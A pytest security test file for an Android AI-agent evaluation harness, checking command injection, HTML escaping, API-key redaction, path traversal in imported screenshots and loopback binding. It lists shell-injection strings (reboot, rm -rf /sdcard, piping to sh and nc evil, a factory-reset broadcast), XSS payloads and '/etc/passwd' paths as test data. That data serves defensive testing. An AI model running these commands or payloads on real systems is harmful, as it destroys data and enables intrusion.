"""Security faults: agent text with shell metacharacters (nothing runs on the device), HTML/JS in
agent, model and judge text (escaped in every report), API keys (never in records, logs,
manifests or exceptions), imported trajectories with absolute, `..` or symlinked screenshot paths
(refused), and listening sockets (the simulated phone's ADB port, the viewer's server and our adb
server listen on loopback unless told otherwise: an open ADB port lets anyone drive the device)."""

from __future__ import annotations

import html
import json
import logging
import socket
from pathlib import Path

import pytest

from harness.core.actions import Answer, Key, OpenApp, TypeText
from harness.core.episode import AgentOutput, MonitorVerdict
from harness.records import RecordError, RunWriter, file_sha256, iter_steps, read_results
from harness.core.tasks import parse_task
from tests.fakes.model_server import Reply, ScriptedModelServer
from tests.faults.helpers import SHORT, check_run_consistent, harness_popen, wait_for, write_suite

pytestmark = pytest.mark.faults

INJECTIONS = [
    "'; reboot; echo '", "$(reboot)", "`reboot`", "a && rm -rf /sdcard", "a || touch /sdcard/pwned",
    "a | sh", "a; am broadcast -a android.intent.action.MASTER_CLEAR", "> /sdcard/pwned", "a\nreboot",
    "$((1+1)) ${PATH} \\\"q\\\"", "%s%n%x", "-e reboot", "--help",
]
PAYLOADS = ['<script>alert("x")</script>', "<img src=x onerror=alert(1)>", '"><svg onload=alert(2)>',
            "' onmouseover='alert(3)", "javascript:alert(4)", "</textarea><iframe src=//evil></iframe>",
            "{{7*7}} ${7*7}", "<!-- x --><style>*{display:none}</style>"]
RAW_MARKERS = ["<script>alert", "<img src=x", "<svg onload", "<iframe", "<style>*{", "' onmouseover='alert",
               '" onmouseover="alert']


# --- shell metacharacters never run on the device ------------------------------------------------------
@pytest.mark.parametrize("adbkeyboard", [True, False], ids=["adbkeyboard", "input-text"])
def test_agent_text_with_shell_metacharacters_runs_nothing_on_the_device(says_phone, adbkeyboard):
    phone = says_phone(adbkeyboard=adbkeyboard)
    s = phone.sim
    sh = s.handle.device.shell
    task = parse_task({"id": "t1", "instruction": "x", "reference_steps": 30,
                       "setup": {"sim": {"preset": "default"}}})
    outs = [AgentOutput(OpenApp(app="Settings")), AgentOutput(Key(key="back"))]
    outs += [AgentOutput(TypeText(text=t, submit=True)) for t in INJECTIONS if t.isascii() and "\n" not in t]
    outs += [AgentOutput(OpenApp(app=t)) for t in INJECTIONS]
    outs += [AgentOutput(Answer(text=t)) for t in INJECTIONS[:3]]
    before_fs = {p: s.phone.fs.digest(p) for p in ("/sdcard", "/data/local/tmp")}
    n_log = len(sh.log)
    out, ep, w = phone.play(task, outs, cap=len(outs) + 1)
    w.close()
    assert out.status == "finished", out.error
    ran = sh.log[n_log:]
    programs = {argv[0] for argv in ran}
    # only the harness's own fixed commands ran; no word of any payload ever became a program
    assert programs <= {"input", "am", "monkey", "dumpsys", "pm", "ime", "settings", "wm", "uiautomator", "cat",
                        "getprop", "screencap"}, programs
    assert not any(argv[0] in ("reboot", "rm", "touch", "sh", "echo", "nc") for argv in ran)
    assert not any(a.endswith("MASTER_CLEAR") for argv in ran if argv[0] == "am" for a in argv
                   if argv[:2] != ["am", "broadcast"] or "ADB_INPUT" not in " ".join(argv))
    for p, d in before_fs.items():
        assert s.phone.fs.digest(p) == d, f"{p} changed"
    steps = list(iter_steps(ep.path))
    opened = [st for st in steps if st.action and st.action["type"] == "open_app" and st.action["app"] != "Settings"]
    assert opened and all(st.invalid and "no installed app" in st.invalid for st in opened)


def test_injection_in_a_model_reply_is_typed_as_text(adb, serve_sim, tmp_path, capsys):
    """A model answering with shell syntax in its type() argument: the words are typed into the
    focused field, and no other program runs."""
    from harness.cli.main import main

    s = serve_sim(width=540, height=1200)
    sh = s.handle.device.shell
    evil = "$(reboot); rm -rf /sdcard `id` | nc evil 1 && echo pwned > /sdcard/x"
    replies = [Reply(f"Thought: type it\nAction: type(content='{evil}')"), Reply("Action: finished(content='')")]
    suite = write_suite(tmp_path / "suite.yaml", ["settings_wifi_off"])
    n_log = len(sh.log)
    before = s.phone.fs.digest("/sdcard")
    with ScriptedModelServer(replies) as m:
        rc = main(["run", "--suite", str(suite), "--device", s.serial, "--agent", "uitars", "--model-base-url", m.base_url,
                   "--model", "m", "--adb-port", str(adb.port), "--out", str(tmp_path / "run"), "--quiet"])
    assert rc == 0, capsys.readouterr().err
    assert not any(argv[0] in ("reboot", "rm", "id", "nc", "echo", "sh") for argv in sh.log[n_log:])
    assert s.phone.fs.digest("/sdcard") == before
    typed = [st for st in iter_steps(tmp_path / "run" / "episodes" / "settings_wifi_off")
             if st.action and st.action["type"] == "type"]
    assert typed and typed[0].action["text"] == evil


# --- HTML and JS in any text are escaped in every report ------------------------------------------------
class _Evil:
    """A plugin whose every text is ``payload``."""

    name = "evil"

    def __init__(self, payload):
        self.payload = payload

    def spec(self):
        return {"name": self.name}

    def start(self, ctx):
        pass


class _EvilJudge(_Evil):
    def on_step(self, event):
        pass

    def finish(self, end):
        return {self.name: (False, {"rationale": self.payload, "conditions": [{"text": self.payload, "met": False}],
                                    "milestones": {"reached": [{"name": self.payload, "step": 1}]}})}


class _EvilGate(_Evil):
    name = "gate"
    mode = "gate"

    def check(self, step):
        halt = step.index >= 3
        return MonitorVerdict(halt=halt, risky=halt, category=self.payload if halt else None, reason=self.payload)


def _evil_run(tmp_path: Path, says: type) -> Path:
    """A run in which every free-text field holds HTML/JS: task instructions, the agent's label,
    raw outputs, thoughts, typed text, answers, invalid reasons, errors, judge rationales, halts."""
    from harness.run.suite import Plugins, SuiteConfig, run_suite
    from harness.core.tasks import load_suite
    from tests.fakes.local_device import LocalSimDevice

    payload = " ".join(PAYLOADS)
    suite = tmp_path / "evil.yaml"
    tasks = []
    for i in range(3):
        tasks.append({"id": f"evil{i}", "instruction": f"Task {i}: {payload}", "reference_steps": 3,
                      "apps": ["com.android.settings"], "categories": ["single-app"],
                      "setup": {"sim": {"preset": "default"}},
                      "milestones": [{"description": payload, "key_text": payload}]})
    import yaml

    suite.write_text(yaml.safe_dump(tasks, allow_unicode=True), encoding="utf-8")
    loaded = load_suite(suite).tasks
    outs = [AgentOutput(TypeText(text=PAYLOADS[0]), raw_output=payload, thought=payload, extras={"note": payload}),
            AgentOutput(None, raw_output=payload, invalid=f"unparseable: {payload}", thought=payload),
            AgentOutput(Answer(text=payload), raw_output=payload),
            AgentOutput(Key(key="back"), raw_output=payload)]

    class Boom(says):
        def step(self, obs):
            if self.i >= 2:
                raise RuntimeError(payload)
            return super().step(obs)

    run = tmp_path / "run"
    with RunWriter(run, fsync=False) as w:
        w.write_manifest({"agent": {"name": "says", "label": payload}, "suite": {"path": str(suite),
                          "files": {str(suite): file_sha256(suite)}}, "tasks": [t.id for t in loaded]})
        for task, agent, mon in [(loaded[0], says(outs), []), (loaded[1], Boom(outs), []),
                                 (loaded[2], says(outs), [_EvilGate(payload)])]:
            plugins = Plugins(agent=lambda a=agent: a, observers=lambda: [_EvilJudge(payload)],
                              monitors=lambda m=mon: m)
            run_suite([task], [LocalSimDevice()], plugins, w, SuiteConfig(agent_name=f"says {PAYLOADS[1]}"))
    rows = {r.task_id: r for r in read_results(run)}
    assert rows["evil1"].status == "agent_error" and "<script>" in rows["evil1"].error
    assert rows["evil2"].status == "halted"
    return run


def _assert_escaped(text: str, where: str) -> None:
    for m in RAW_MARKERS:
        assert m not in text, f"{where}: unescaped {m!r}"


def test_html_and_js_in_records_are_escaped_in_every_report(tmp_path, says):
    run = _evil_run(tmp_path, says)
    from harness.report.table_formats import FORMATS, render
    from harness.report.tables import build_report
    from harness.report.viewer import write_viewer

    index = write_viewer(run)
    pages = [index, *sorted((run / "report").rglob("*.html"))]
    assert len(pages) >= 4
    for p in pages:
        _assert_escaped(p.read_text(encoding="utf-8"), str(p))
    ep0 = (run / "report" / "episodes" / "evil0.html").read_text(encoding="utf-8")
    assert html.escape(PAYLOADS[0], quote=True) in ep0  # shown, as text
    for page in pages:
        assert "Content-Security-Policy" in page.read_text(encoding="utf-8"), page
    rep = build_report([str(run)], ["agent"])
    for fmt in FORMATS:
        out = render(rep, fmt)
        if fmt in ("html", "md"):  # markdown is rendered as HTML by most viewers
            _assert_escaped(out, f"report --format {fmt}")
        if fmt == "json":
            json.loads(out)


# --- API keys never reach records, logs, manifests or exceptions ----------------------------------------
KEY = "sk-faultinjection-0123456789abcdefSECRET"


def test_api_keys_never_reach_records_logs_manifests_or_errors(adb, serve_sim, tmp_path, monkeypatch, caplog, capsys):
    import agents  # noqa: F401
    import judges  # noqa: F401
    from harness.cli.main import main
    from harness.core.registry import AGENTS, JUDGES

    model_agents = ["uitars"]
    assert "uitars" in AGENTS.entries and "crate" in JUDGES.entries  # ours: a missing one fails, never skips
    monkeypatch.setenv("CRATE_FAULT_KEY", KEY)
    caplog.set_level(logging.DEBUG)
    s = serve_sim(width=540, height=1200)
    seen = []

    def responder(req):  # a careless server that echoes the credential back in errors and text
        seen.append(req)
        n = len(seen)
        if n == 1:
            return Reply(status=429, error=f"rate limited for key {KEY}", headers={"Retry-After": "0"})
        if n == 2:
            return Reply(f"Thought: my key is {KEY[:6]}\nAction: press_back()")
        return Reply(status=401, error=f"Incorrect API key provided: {KEY}. Authorization: Bearer {KEY}")

    suite = write_suite(tmp_path / "suite.yaml", SHORT[:2])
    judge = ["--judge", "oracle,crate", "--judge-base-url", "", "--judge-model", "j", "--judge-retries", "0",
             "--judge-api-key-env", "CRATE_FAULT_KEY"] if "crate" in JUDGES.entries else ["--judge", "oracle"]
    with ScriptedModelServer(responder) as m:
        if "crate" in JUDGES.entries:
            judge[judge.index("--judge-base-url") + 1] = m.base_url
        rc = main(["run", "--suite", str(suite), "--device", s.serial, "--agent", model_agents[0],
                   "--model-base-url", m.base_url, "--model", "m", "--model-api-key-env", "CRATE_FAULT_KEY",
                   "--model-retries", "1", *judge, "--adb-port", str(adb.port), "--out", str(tmp_path / "run")])
        cap = capsys.readouterr()
    assert rc == 4, cap.err  # every episode ended model_error: the endpoint refused the key for each
    # the key was sent (the server saw it) ...
    assert any(h.get("authorization") == f"Bearer {KEY}" for h in m.headers)
    rows = read_results(tmp_path / "run")
    assert any(r.status == "model_error" and "401" in (r.error or "") for r in rows), rows
    # ... and is nowhere we write or print
    secret = KEY.encode()
    for p in (tmp_path / "run").rglob("*"):
        if p.is_file():
            assert secret not in p.read_bytes(), f"API key in {p}"
            assert KEY[10:30].encode() not in p.read_bytes(), f"part of the API key in {p}"
    assert KEY not in cap.out and KEY not in cap.err
    assert KEY not in caplog.text and KEY[10:30] not in caplog.text
    manifest = json.loads((tmp_path / "run" / "manifest.json").read_text())
    assert "CRATE_FAULT_KEY" in json.dumps(manifest)  # the variable's name is recorded, not its value
    check_run_consistent(tmp_path / "run")


def test_openai_key_reaches_no_endpoint_it_is_not_named_for(adb, serve_sim, tmp_path, monkeypatch, capsys):
    """OPENAI_API_KEY set, a local agent endpoint and a third-party judge endpoint: with no key
    flag neither server sees the key (it goes only to api.openai.com); --judge-api-key-env
    OPENAI_API_KEY sends it to the judge endpoint and still not to the agent's."""
    import agents  # noqa: F401
    import judges  # noqa: F401
    from harness.cli.main import main

    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    s = serve_sim(width=540, height=1200)
    suite = write_suite(tmp_path / "suite.yaml", SHORT[2:3])
    judge_reply = Reply(json.dumps({"clues": "c", "effect": "e", "success": True, "reason": "r", "risky": False}))

    def run(out: str, *extra: str) -> tuple[list[dict[str, str]], list[dict[str, str]]]:
        with ScriptedModelServer([Reply("Thought: done\nAction: finished()")]) as m, \
                ScriptedModelServer([judge_reply]) as j:
            rc = main(["run", "--suite", str(suite), "--device", s.serial, "--agent", "vlm",
                       "--model-base-url", m.base_url, "--model", "m", "--model-retries", "0",
                       "--judge", "oracle,crate", "--judge-base-url", j.base_url, "--judge-model", "j",
                       "--judge-retries", "0", *extra, "--adb-port", str(adb.port), "--out", str(tmp_path / out),
                       "--quiet"])
            assert rc == 0, capsys.readouterr().err
            return list(m.headers), list(j.headers)

    agent_h, judge_h = run("default")
    assert agent_h and judge_h
    assert all("authorization" not in h for h in agent_h + judge_h), agent_h + judge_h
    assert KEY not in json.dumps(agent_h + judge_h)
    agent_h, judge_h = run("named", "--judge-api-key-env", "OPENAI_API_KEY")
    assert all(h.get("authorization") == f"Bearer {KEY}" for h in judge_h)
    assert all("authorization" not in h for h in agent_h) and KEY not in json.dumps(agent_h)
    manifest = json.loads((tmp_path / "named" / "manifest.json").read_text())
    assert KEY not in json.dumps(manifest) and "OPENAI_API_KEY" in json.dumps(manifest)


def test_model_errors_never_carry_the_key(monkeypatch):
    from harness.client.calls import ModelClient
    from harness.client.config import ModelConfig, ModelError
    from harness.client.images import user_message

    monkeypatch.setenv("CRATE_FAULT_KEY", KEY)
    for reply in (Reply(status=401, error=f"bad key {KEY}"), Reply(status=400, error=f"Bearer {KEY} refused"),
                  Reply(status=500, error=f"{KEY}"), Reply(raw_body=f"<html>{KEY}</html>".encode())):
        with ScriptedModelServer([reply]) as s:
            c = ModelClient(ModelConfig(base_url=s.base_url, model="m", api_key_env="CRATE_FAULT_KEY", max_retries=0))
            with pytest.raises(ModelError) as e:
                c.chat([user_message("x")])
        chain, exc = [], e.value
        while exc is not None:  # the error and every exception chained to it (a traceback prints them all)
            chain.append(str(exc) + repr(exc) + "".join(map(str, exc.args)))
            exc = exc.__cause__ or (None if exc.__suppress_context__ else exc.__context__)
        text = "\n".join(chain)
        assert KEY not in text and KEY[10:30] not in text, text
        assert KEY not in json.dumps(c.spec())


# --- imported trajectories with absolute or `..` screenshot paths -----------------------------------------
def _png(path: Path, color=(10, 20, 30)) -> None:
    from PIL import Image

    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (40, 80), color).save(path, format="PNG")


ESCAPES = {  # how each is refused: the file, the step and the field, and why
    "/etc/passwd": "ep1: step 2 screenshot: must be a relative path inside the episode folder, got absolute path",
    "../outside.png": "ep1: step 2 screenshot: must not contain '..' components",
    "screens/../../outside.png": "ep1: step 2 screenshot: must not contain '..' components",
    "..\\outside.png": "ep1: step 2 screenshot: must not contain '..' components",
    "C:\\Windows\\x.png": "ep1: step 2 screenshot: must be a relative path inside the episode folder, got absolute path",
    "symlink": "ep1/1.png: resolves outside the episode folder (a symlink?); refused",
    "symlink-scan": "ep1/1.png: resolves outside the episode folder (a symlink?); refused",
    "symlink-dir": "ep1/screenshots/0.png: resolves outside the episode folder (a symlink?); refused",
}


@pytest.mark.parametrize("shot", list(ESCAPES))
def test_imported_trajectories_with_escaping_screenshot_paths_are_refused(tmp_path, shot):
    from harness.importers.files import TrajectoryImportError
    from harness.importers.trajectories import import_trajectories

    src = tmp_path / "src"
    ep = src / "ep1"
    ep.mkdir(parents=True)
    _png(tmp_path / "outside.png", (255, 0, 0))
    (ep / "episode.json").write_text(json.dumps({"instruction": "x", "success": True}))
    steps = [{"action": {"action_type": "navigate_back"}, "screenshot": "0.png"},
             {"action": {"action_type": "status", "goal_status": "complete"}, "screenshot": "1.png"}]
    _png(ep / "0.png")
    _png(ep / "1.png")
    if shot in ("symlink", "symlink-scan"):  # a screenshot file that is a link to a file outside the episode
        (ep / "1.png").unlink()
        (ep / "1.png").symlink_to(tmp_path / "outside.png")
        if shot == "symlink-scan":  # found by name (0.png, 1.png ...), not named in the steps
            steps = [{k: v for k, v in st.items() if k != "screenshot"} for st in steps]
    elif shot == "symlink-dir":  # a screenshots folder that is a link to elsewhere
        (ep / "0.png").unlink()
        (ep / "1.png").unlink()
        other = tmp_path / "elsewhere"
        _png(other / "0.png", (0, 255, 0))
        _png(other / "1.png", (0, 0, 255))
        (ep / "screenshots").symlink_to(other, target_is_directory=True)
        steps = [{k: v for k, v in st.items() if k != "screenshot"} for st in steps]
    else:
        steps[1]["screenshot"] = shot
    (ep / "actions.json").write_text(json.dumps(steps))
    out = tmp_path / "run"
    with pytest.raises(TrajectoryImportError) as e:
        import_trajectories(src, "androidworld", out)
    assert ESCAPES[shot] in str(e.value), str(e.value)
    assert not (out / "results.jsonl").exists()  # refused before any episode was recorded
    if out.exists():  # nothing from outside the source was copied in
        red = (tmp_path / "outside.png").read_bytes()
        assert not any(p.is_file() and p.read_bytes() == red for p in out.rglob("*"))


def test_records_with_escaping_screen_paths_are_refused_by_readers_and_the_viewer(tmp_path):
    from harness.report.viewer import write_viewer

    secret = tmp_path / "secret.png"
    _png(secret, (1, 2, 3))
    with RunWriter(tmp_path / "run", fsync=False) as w:
        ep = w.start_episode("t1")
        ep.write_screen(0, secret.read_bytes())
        with pytest.raises(RecordError):
            ep.append_step({"index": 1, "screen_before": "../../../secret.png"})
        with pytest.raises(RecordError):
            ep.append_step({"index": 1, "screen_before": str(secret)})
    traj = tmp_path / "run" / "episodes" / "t1" / "trajectory.jsonl"
    traj.write_text(json.dumps({"index": 1, "screen_before": "../../../secret.png"}) + "\n")
    with pytest.raises(RecordError, match="'..'"):
        list(iter_steps(traj.parent))
    index = write_viewer(tmp_path / "run")  # the run is shown; the refused line is a warning naming file, line, field
    assert "trajectory.jsonl:1: screen_before: must not contain &#x27;..&#x27; components" in index.read_text("utf-8")
    for p in (tmp_path / "run" / "report").rglob("*"):
        if p.suffix == ".html":
            assert "secret.png" not in p.read_text(encoding="utf-8"), p
    assert list((tmp_path / "run" / "report").rglob("*.jpg")) == []  # no step was read, so no screen was shown


# --- everything listens on loopback unless told otherwise -------------------------------------------------
def _listening(port: int) -> list[str]:
    """Local addresses of TCP sockets listening on ``port`` (from /proc/net/tcp and tcp6)."""
    out = []
    for name, v6 in (("/proc/net/tcp", False), ("/proc/net/tcp6", True)):
        try:
            lines = Path(name).read_text().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            parts = line.split()
            local, state = parts[1], parts[3]
            addr, p = local.split(":")
            if state != "0A" or int(p, 16) != port:
                continue
            raw = bytes.fromhex(addr)
            if v6:
                words = b"".join(raw[i:i + 4][::-1] for i in range(0, 16, 4))
                out.append(socket.inet_ntop(socket.AF_INET6, words))
            else:
                out.append(socket.inet_ntop(socket.AF_INET, raw[::-1]))
    return out


def _is_loopback(addr: str) -> bool:
    import ipaddress

    ip = ipaddress.ip_address(addr)
    if ip.version == 6 and ip.ipv4_mapped:
        ip = ip.ipv4_mapped
    return ip.is_loopback


needs_proc = pytest.mark.skipif(not Path("/proc/net/tcp").exists(), reason="needs /proc/net/tcp (Linux)")


@needs_proc
def test_sim_adb_port_viewer_and_adb_server_listen_on_loopback(adb, sims, tmp_path):
    from harness.device.adb_server import free_port
    from harness.report.serve import ViewServer
    from harness.sim.phone import SimPhone
    from harness.sim.serve import serve

    # the simulated phone, in this process and as `harness sim serve`
    h = serve(SimPhone(540, 1200), free_port())
    try:
        addrs = _listening(h.port)
        assert addrs and all(_is_loopback(a) for a in addrs), addrs
    finally:
        h.stop()
    sp = sims(adb)
    addrs = _listening(sp.port)
    assert addrs and all(_is_loopback(a) for a in addrs), addrs
    # our private adb server
    addrs = _listening(adb.port)
    assert addrs and all(_is_loopback(a) for a in addrs), addrs
    # the viewer's server, in this process and as `harness view`
    run = tmp_path / "run"
    RunWriter(run, fsync=False).close()
    v = ViewServer(run, port=0).start()
    try:
        addrs = _listening(v.port)
        assert addrs and all(_is_loopback(a) for a in addrs), addrs
    finally:
        v.stop()
    port = free_port()
    p = harness_popen(["view", str(run), "--port", str(port)], adb.port)
    try:
        assert wait_for(lambda: bool(_listening(port)), 30), "harness view did not listen"
        addrs = _listening(port)
        assert all(_is_loopback(a) for a in addrs), addrs
    finally:
        p.terminate()
        p.communicate(timeout=10)


@needs_proc
def test_binding_elsewhere_must_be_asked_for_and_warns(adb, tmp_path, caplog):
    from harness.device.adb_server import free_port
    from harness.sim.phone import SimPhone
    from harness.sim.serve import serve

    caplog.set_level(logging.WARNING)
    h = serve(SimPhone(540, 1200), free_port(), host="0.0.0.0")
    try:
        assert "0.0.0.0" in _listening(h.port)
        assert "anyone who can reach this address can drive the phone" in caplog.text
    finally:
        h.stop()
    port = free_port()
    p = harness_popen(["sim", "serve", "--port", str(port), "--host", "0.0.0.0", "--size", "540x1200"], adb.port)
    try:
        # the warning is printed before the port is bound, so it is in the pipe once it listens
        assert wait_for(lambda: bool(_listening(port)), 30)
    finally:
        p.terminate()
        out, err = p.communicate(timeout=10)
    assert "accepts anyone who can reach it" in err, err
